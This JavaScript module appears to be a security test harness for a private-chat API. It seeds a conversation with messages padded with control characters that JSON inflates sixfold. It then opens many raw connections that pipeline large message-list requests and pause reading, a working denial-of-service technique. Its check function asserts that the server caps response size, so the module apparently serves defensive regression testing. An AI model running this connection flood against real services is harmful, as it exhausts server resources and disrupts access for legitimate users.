// Two hundred connections that ask for pages of control characters, which JSON writes in six bytes each, and read nothing.
import { connect } from "node:net"

const counts = { asked: 0, closed: 0 }
export const tally = () => counts

export async function prepare({ server, ask, token, wait }) {
  const people = ["reader", "other"]
  const opened = await ask(server.url, "/api/privatechat/conversations", {
    as: token(people[0]),
    method: "POST",
    body: { userId: people[1] },
  })
  const id = opened.body.conversation.id
  for (let n = 0; n < 36; n++) {
    const body = { conversationId: id, content: `${n} ${"\u0001".repeat(7_900)}` }
    const as = token(people[n % 2])
    const sent = await ask(server.url, "/api/privatechat/message", { as, method: "POST", body })
    if (sent.status === 429) await wait(200)
  }
  const { bytes, body } = await ask(server.url, `/api/privatechat/messages/${id}?limit=200`, {
    as: token("reader"),
  })
  return { id, bytes, hasMore: body.hasMore }
}

export async function attack({ url, given, token, count, wait, isOver, address }) {
  const { hostname, port } = new URL(url)
  // Twelve members would be more; two are enough for what one user may have at once.
  const heads = ["reader", "other"].map(
    (name) =>
      `GET /api/privatechat/messages/${given.id}?limit=200 HTTP/1.1\r\nhost: ${hostname}:${port}\r\nauthorization: Bearer ${token(name)}\r\n\r\n`,
  )
  for (let n = 0; n < count; n++) {
    const socket = connect({ host: hostname, port: Number(port), localAddress: address })
    socket.on("error", () => {})
    socket.on("close", () => counts.closed++)
    socket.on("connect", () => {
      // Several down one connection: the second begins when the first is written.
      socket.write(heads[n % 2].repeat(4))
      counts.asked += 4
    })
    socket.pause()
    if (n % 20 === 19) await wait(50)
  }
  while (!isOver()) await wait(50)
  return counts
}

export function check({ given, attack }, assert) {
  assert.ok(attack.asked > 0)
  if (given) assert.ok(given.bytes < 1_100_000 && given.hasMore, `${given.bytes}`)
}
